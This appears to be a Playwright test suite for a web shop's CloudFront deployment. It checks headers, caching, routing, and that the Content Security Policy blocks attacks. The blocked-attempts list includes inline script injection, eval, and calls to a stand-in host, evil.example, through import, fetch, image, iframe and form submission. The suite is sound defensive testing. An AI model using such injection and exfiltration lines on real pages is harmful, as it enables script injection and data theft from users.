import { readdirSync } from 'node:fs';
import { expect, test } from './shop.ts';
import { build } from './site.ts';

/** The one script without a hash in its name: Auth0's SDK asks for it by this one. */
const worker = 'auth0-spa-js.worker.production.js';

test.describe('The site, as CloudFront serves it', () => {
  test('sends the security headers of the template with every answer', async ({ shop, cloud }) => {
    for (const path of ['/', '/config.json', '/no/such/page', '/no-such-file.js']) {
      const { headers } = await fetch(shop.url + path);
      const policy = headers.get('content-security-policy');
      expect(policy).toContain("script-src 'self';");
      expect(policy).toContain(`connect-src 'self' ${new URL(cloud.config['apiUrl']!).origin} `);
      expect(headers.get('strict-transport-security')).toContain('max-age=63072000');
      expect(headers.get('x-content-type-options')).toBe('nosniff');
      expect(headers.get('referrer-policy')).toBe('no-referrer');
      expect(headers.get('permissions-policy')).toContain('camera=()');
    }
  });

  test('answers routes with the page, and missing files with 404', async ({ shop }) => {
    for (const path of ['/', '/purchases', '/no/such/page', '/v1.5/pets', '/?code=1&state=2']) {
      const answer = await fetch(shop.url + path);
      expect([path, answer.status]).toEqual([path, 200]);
      expect(await answer.text()).toContain('<app-root>');
    }
    for (const path of ['/chunk-AAAAAAAA.js', '/pets/dragon.svg', '/humans.txt', '/.env']) {
      const answer = await fetch(shop.url + path);
      expect([path, answer.status]).toEqual([path, 404]);
      expect(await answer.text()).not.toContain('<app-root>');
    }
  });

  test('lets files with a hash be kept for a year, and the others be asked for', async ({
    shop,
  }) => {
    const scripts = readdirSync(build).filter(
      (name) => /\.(js|css)$/.test(name) && ![worker, 'first-paint.js'].includes(name),
    );
    expect(scripts.length).toBeGreaterThan(5);
    for (const name of scripts) {
      const { headers } = await fetch(`${shop.url}/${name}`);
      const caches = headers.get('cache-control');
      expect([name, caches]).toEqual([name, 'public, max-age=31536000, immutable']);
    }
    for (const path of [
      '/',
      '/config.json',
      '/favicon.svg',
      '/pets.svg',
      '/first-paint.js',
      `/${worker}`,
    ]) {
      const { headers } = await fetch(shop.url + path);
      expect([path, headers.get('cache-control')]).toEqual([path, 'no-cache']);
      const etag = headers.get('etag') ?? '';
      const again = await fetch(shop.url + path, { headers: { 'If-None-Match': etag } });
      expect([path, again.status]).toEqual([path, 304]);
    }
  });

  test('preloads every script that the start needs', async ({ shop }) => {
    const html = await (await fetch(shop.url)).text();
    const main = /src="(main-[^"]+\.js)"/.exec(html)?.[1] ?? '';
    const code = await (await fetch(`${shop.url}/${main}`)).text();
    const needed = [...code.matchAll(/(?:from|import) ?["']\.\/([^"']+)["']/g)].map(
      ([, file]) => file,
    );
    const preloaded = [...html.matchAll(/rel="modulepreload" href="([^"]+)"/g)].map(
      ([, file]) => file,
    );
    expect(needed.length).toBeGreaterThan(0);
    expect(needed.filter((file) => !preloaded.includes(file))).toEqual([]);
  });

  test('compresses what is text', async ({ shop }) => {
    const { headers } = await fetch(shop.url, { headers: { 'Accept-Encoding': 'br' } });
    expect(headers.get('content-encoding')).toBe('br');
    expect(headers.get('vary')).toBe('Accept-Encoding');
  });
});

test.describe('The page refuses', () => {
  /** What the browser says of an attempt, made where an attacker's script would make it. */
  const attempts: [what: string, script: string, refusal: RegExp][] = [
    [
      'an inline script',
      `const one = document.createElement('script');
       one.append('window.attacked = true'); document.body.append(one);`,
      /script/i,
    ],
    [
      'an inline handler',
      `const one = document.createElement('img');
       one.setAttribute('onerror', 'window.attacked = true');`,
      /Element onerror/,
    ],
    ['text as markup', `document.body.innerHTML = '<img src=x>';`, /Element innerHTML/],
    ['text as code', `eval('window.attacked = true');`, /eval/],
    ['a script of another host', `import('https://evil.example/x.js')`, /script-src/],
    ['a worker of another address', `new Worker('favicon.svg')`, /Worker constructor/],
    ['a call to another host', `fetch('https://evil.example/')`, /connect-src/],
    ['a picture of another host', `new Image().src = 'https://evil.example/x.png'`, /img-src/],
    [
      'a frame of another host',
      `const one = document.createElement('iframe');
       one.src = 'https://evil.example/'; document.body.append(one);`,
      /frame-src/,
    ],
    [
      'a form that leads elsewhere',
      `const one = document.createElement('form');
       one.action = 'https://evil.example/'; document.body.append(one); one.submit();`,
      /form-action/,
    ],
  ];
  for (const [what, script, refusal] of attempts) {
    test(what, async ({ page, refusals, shop }) => {
      await shop.open();
      // Out of the tool's own call, for which the browser makes exceptions.
      await page.evaluate(`setTimeout(async () => { ${script} })`);
      await expect.poll(() => refusals.join('\n')).toMatch(refusal);
      expect(await page.evaluate('window.attacked')).toBeUndefined();
      refusals.splice(0);
    });
  }

  test('to be framed', async ({ page, shop }) => {
    const other = 'http://localhost:9';
    const frames = [`${other}/frame`, shop.url].map((url) => `<iframe src="${url}"></iframe>`);
    await page.route(`${other}/*`, (route) =>
      route.fulfill({
        contentType: 'text/html',
        body: route.request().url().endsWith('/frame') ? 'Framed' : frames.join(''),
      }),
    );
    await page.goto(`${other}/`);
    const urls = () => page.frames().map((frame) => frame.url());
    await expect
      .poll(urls)
      .toEqual([`${other}/`, `${other}/frame`, expect.stringMatching(/error:/)]);
  });
});
